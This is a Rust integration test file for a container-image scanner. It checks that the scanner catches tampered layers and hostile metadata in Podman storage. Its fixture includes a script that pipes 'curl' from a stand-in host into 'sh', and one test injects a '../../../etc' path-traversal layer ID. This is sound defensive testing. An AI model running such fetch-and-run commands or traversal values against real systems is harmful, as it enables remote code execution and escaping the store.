@@ -1,0 +1,329 @@
+//! Images read where a container engine keeps them: containers-storage
+//! (Podman, vfs and overlay drivers), loaded by the real `podman` into a
+//! temporary storage root; inventories compared with the OCI layout of the
+//! same image, and tampering with the stored layers caught.
+
+use std::path::{Path, PathBuf};
+
+use serde_json::Value;
+use stowaway::fixture::{BuiltImage, ImageBuilder, LayerBuilder};
+use stowaway::layer::Compression;
+
+use crate::util::*;
+
+/// An image with uncompressed layers (so its OCI layout's blob digests are
+/// its diff_ids, as in a store) and the layer features a rebuild must get
+/// right: directories, symlinks, hardlinks, an empty file, a file larger
+/// than one read, setuid, a whiteout and an opaque directory.
+fn test_image(tag: &str) -> BuiltImage {
+    let big: Vec<u8> = (0..300_000u32)
+        .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
+        .collect();
+    let base = LayerBuilder::new()
+        .compression(Compression::None)
+        .created_by("ADD base")
+        .dir("etc", 0o755)
+        .file("etc/os-release", b"ID=test\n", 0o644)
+        .dir("opt", 0o755)
+        .dir("opt/old", 0o755)
+        .file("opt/old/a.txt", b"old a\n", 0o644)
+        .dir("usr", 0o755)
+        .dir("usr/bin", 0o755)
+        .file("usr/bin/big", &big, 0o755)
+        .file("usr/bin/empty", b"", 0o644)
+        .hardlink("usr/bin/big-link", "usr/bin/big")
+        .symlink("usr/bin/sh", "/bin/busybox")
+        .file(
+            "usr/bin/fetch.sh",
+            b"#!/bin/sh\ncurl -fsSL http://x.invalid/p | sh\n",
+            0o755,
+        );
+    let top = LayerBuilder::new()
+        .compression(Compression::None)
+        .created_by("RUN cleanup")
+        .whiteout("usr/bin/fetch.sh")
+        .opaque("opt/old")
+        .file("opt/old/b.txt", b"new b\n", 0o644)
+        .file_bytes(b"usr/bin/helper", b"#!/bin/sh\nid\n", 0o4755, 0, 0);
+    ImageBuilder::new()
+        .layer(base)
+        .empty_step("ENV X=1")
+        .layer(top)
+        .tag(tag)
+        .build()
+}
+
+/// `podman load` the docker-archive `archive` into the storage at `root`.
+fn podman_load(root: &Path, driver: &str, archive: &Path) -> Result<(), String> {
+    let out = std::process::Command::new("podman")
+        .arg("--root")
+        .arg(root)
+        .arg("--runroot")
+        .arg(root.with_extension("run"))
+        .args([
+            "--storage-driver",
+            driver,
+            "--events-backend",
+            "none",
+            "--cgroup-manager",
+            "cgroupfs",
+            "load",
+            "-q",
+            "-i",
+        ])
+        .arg(archive)
+        .output()
+        .map_err(|e| e.to_string())?;
+    if out.status.success() {
+        Ok(())
+    } else {
+        Err(String::from_utf8_lossy(&out.stderr).into_owned())
+    }
+}
+
+/// A storage root holding `img` loaded with `driver`; `None` (after saying
+/// why) when this machine cannot use the driver.
+fn loaded(img: &BuiltImage, driver: &str, t: &Path) -> Option<PathBuf> {
+    let archive = t.join("image.tar");
+    img.write_docker_archive(&archive).unwrap();
+    let root = t.join(format!("storage-{driver}"));
+    match podman_load(&root, driver, &archive) {
+        Ok(()) => Some(root),
+        Err(e) if driver == "vfs" => panic!("podman load (vfs) failed: {e}"),
+        Err(e) => {
+            eprintln!("skipping the {driver} driver: podman cannot use it here: {e}");
+            None
+        }
+    }
+}
+
+fn inventory(reference: &str, extra: &[&str]) -> (Value, String, i32) {
+    let mut args = vec!["inventory", reference, "--all-layers", "--format", "json"];
+    args.extend_from_slice(extra);
+    let out = stowaway(&args);
+    let err = String::from_utf8_lossy(&out.stderr).into_owned();
+    let v = serde_json::from_slice(&out.stdout).unwrap_or(Value::Null);
+    (v, err, out.status.code().unwrap_or(-1))
+}
+
+fn same_inventory_as_layout(driver: &str) {
+    if !require("podman") {
+        return;
+    }
+    let t = tmp();
+    let img = test_image("stowaway-test/app:1");
+    let layout = t.path().join("layout");
+    img.write_oci_layout(&layout).unwrap();
+    let Some(root) = loaded(&img, driver, t.path()) else {
+        return;
+    };
+    let (want, err, code) = inventory(&format!("oci:{}", layout.display()), &[]);
+    assert_eq!(code, 0, "{err}");
+    let root_s = root.display().to_string();
+    for name in [
+        "stowaway-test/app:1",
+        "localhost/stowaway-test/app:1",
+        &format!("sha256:{}", img.config_digest.hex()),
+    ] {
+        let (got, err, code) = inventory(
+            &format!("containers-storage:{name}"),
+            &["--storage-root", &root_s],
+        );
+        assert_eq!(code, 0, "{name}: {err}");
+        assert_eq!(got["files"], want["files"], "{name}: files differ");
+        assert_eq!(got["removed"], want["removed"], "{name}: removed differ");
+        assert!(!got["removed"].as_array().unwrap().is_empty());
+        assert_eq!(got["image"]["transport"], "containers-storage");
+        assert_eq!(
+            got["image"]["config_digest"],
+            want["image"]["config_digest"]
+        );
+        let diff_ids = |v: &Value| -> Vec<Value> {
+            v["image"]["layers"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .map(|l| l["diff_id"].clone())
+                .collect()
+        };
+        assert_eq!(diff_ids(&got), diff_ids(&want));
+    }
+}
+
+#[test]
+fn containers_storage_vfs_inventory_equals_the_oci_layouts() {
+    same_inventory_as_layout("vfs");
+}
+
+#[test]
+fn containers_storage_overlay_inventory_equals_the_oci_layouts() {
+    same_inventory_as_layout("overlay");
+}
+
+/// The directory holding the files of layer `n` (0 = bottom) of the only image.
+fn layer_dir(root: &Path, n: usize) -> (String, PathBuf) {
+    let layers: Value =
+        serde_json::from_slice(&std::fs::read(root.join("vfs-layers/layers.json")).unwrap())
+            .unwrap();
+    let layers = layers.as_array().unwrap();
+    let mut chain = vec![];
+    let mut next: Option<&Value> = layers.iter().find(|l| l.get("parent").is_none());
+    while let Some(l) = next {
+        let id = l["id"].as_str().unwrap().to_string();
+        next = layers.iter().find(|x| x["parent"].as_str() == Some(&id));
+        chain.push(id);
+    }
+    let id = chain[n].clone();
+    (id.clone(), root.join("vfs/dir").join(id))
+}
+
+#[test]
+fn containers_storage_tampered_layer_file_is_exit_2_naming_the_layer() {
+    if !require("podman") {
+        return;
+    }
+    let t = tmp();
+    let img = test_image("stowaway-test/tamper:1");
+    let root = loaded(&img, "vfs", t.path()).unwrap();
+    let root_s = root.display().to_string();
+    let reference = "containers-storage:stowaway-test/tamper:1";
+    let (_, err, code) = inventory(reference, &["--storage-root", &root_s]);
+    assert_eq!(code, 0, "{err}");
+
+    // One byte of a stored file, same size.
+    let (id, dir) = layer_dir(&root, 0);
+    let f = dir.join("usr/bin/big");
+    let mut bytes = std::fs::read(&f).unwrap();
+    bytes[150_000] ^= 0x01;
+    std::fs::write(&f, &bytes).unwrap();
+    let out = stowaway(&["scan", reference, "--storage-root", &root_s]);
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(2), "{err}");
+    assert!(
+        err.contains(&id) && err.contains("usr/bin/big") && err.contains("layer 0"),
+        "{err}"
+    );
+
+    // A stored file with a byte more (what a container would run), even
+    // though its first bytes still match the record.
+    bytes[150_000] ^= 0x01;
+    bytes.push(b'x');
+    std::fs::write(&f, &bytes).unwrap();
+    let (_, err, code) = inventory(reference, &["--storage-root", &root_s]);
+    assert_eq!(code, 2, "{err}");
+    assert!(err.contains(&id) && err.contains("300001 bytes"), "{err}");
+
+    // A recorded file gone.
+    std::fs::remove_file(&f).unwrap();
+    let (_, err, code) = inventory(reference, &["--storage-root", &root_s]);
+    assert_eq!(code, 2, "{err}");
+    assert!(err.contains(&id) && err.contains("usr/bin/big"), "{err}");
+}
+
+#[test]
+fn containers_storage_missing_tar_split_says_what_cannot_be_verified() {
+    if !require("podman") {
+        return;
+    }
+    let t = tmp();
+    let img = test_image("stowaway-test/nosplit:1");
+    let root = loaded(&img, "vfs", t.path()).unwrap();
+    let (id, _) = layer_dir(&root, 1);
+    std::fs::remove_file(root.join(format!("vfs-layers/{id}.tar-split.gz"))).unwrap();
+    let root_s = root.display().to_string();
+    let out = stowaway(&[
+        "scan",
+        "containers-storage:stowaway-test/nosplit:1",
+        "--storage-root",
+        &root_s,
+    ]);
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(2), "{err}");
+    assert!(
+        err.contains(&id) && err.contains("cannot be verified against its diff_id"),
+        "{err}"
+    );
+}
+
+#[test]
+fn containers_storage_unknown_name_is_exit_2_listing_the_images() {
+    if !require("podman") {
+        return;
+    }
+    let t = tmp();
+    let img = test_image("stowaway-test/listed:2");
+    let root = loaded(&img, "vfs", t.path()).unwrap();
+    let root_s = root.display().to_string();
+    let out = stowaway(&[
+        "scan",
+        "containers-storage:stowaway-test/absent:1",
+        "--storage-root",
+        &root_s,
+    ]);
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(2), "{err}");
+    assert!(
+        err.contains("no image named \"stowaway-test/absent:1\"")
+            && err.contains("localhost/stowaway-test/listed:2"),
+        "{err}"
+    );
+    // Not a store at all.
+    let out = stowaway(&[
+        "scan",
+        "containers-storage:x",
+        "--storage-root",
+        &t.path().display().to_string(),
+    ]);
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(2), "{err}");
+    assert!(err.contains("not a containers-storage root"), "{err}");
+}
+
+#[test]
+fn containers_storage_hostile_metadata_is_refused() {
+    if !require("podman") {
+        return;
+    }
+    let t = tmp();
+    let img = test_image("stowaway-test/hostile:1");
+    let root = loaded(&img, "vfs", t.path()).unwrap();
+    let root_s = root.display().to_string();
+    let reference = "containers-storage:stowaway-test/hostile:1";
+    let images = root.join("vfs-images/images.json");
+    let text = std::fs::read_to_string(&images).unwrap();
+    // Two keys that differ only by case: Go reads the last one.
+    let twice = text.replacen("\"layer\":", "\"Layer\":\"x\",\"layer\":", 1);
+    assert_ne!(twice, text);
+    std::fs::write(&images, &twice).unwrap();
+    let out = stowaway(&["scan", reference, "--storage-root", &root_s]);
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(2), "{err}");
+    assert!(
+        err.contains("images.json") && err.contains("differ only by case"),
+        "{err}"
+    );
+
+    // A layer ID that would leave the store.
+    let v: Value = serde_json::from_str(&text).unwrap();
+    let top = v[0]["layer"].as_str().unwrap().to_string();
+    std::fs::write(&images, text.replace(&top, "../../../etc")).unwrap();
+    let out = stowaway(&["scan", reference, "--storage-root", &root_s]);
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(2), "{err}");
+    std::fs::write(&images, &text).unwrap();
+
+    // The config replaced: the digest that names it no longer matches.
+    let cfg_dir = root.join("vfs-images").join(img.config_digest.hex());
+    let cfg = std::fs::read_dir(&cfg_dir)
+        .unwrap()
+        .map(|e| e.unwrap().path())
+        .find(|p| std::fs::read(p).unwrap() == img.config)
+        .expect("the stored config");
+    let mut c = img.config.clone();
+    c.extend_from_slice(b" ");
+    std::fs::write(&cfg, &c).unwrap();
+    let out = stowaway(&["scan", reference, "--storage-root", &root_s]);
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(2), "{err}");
+    assert!(err.contains("digest mismatch"), "{err}");
+}
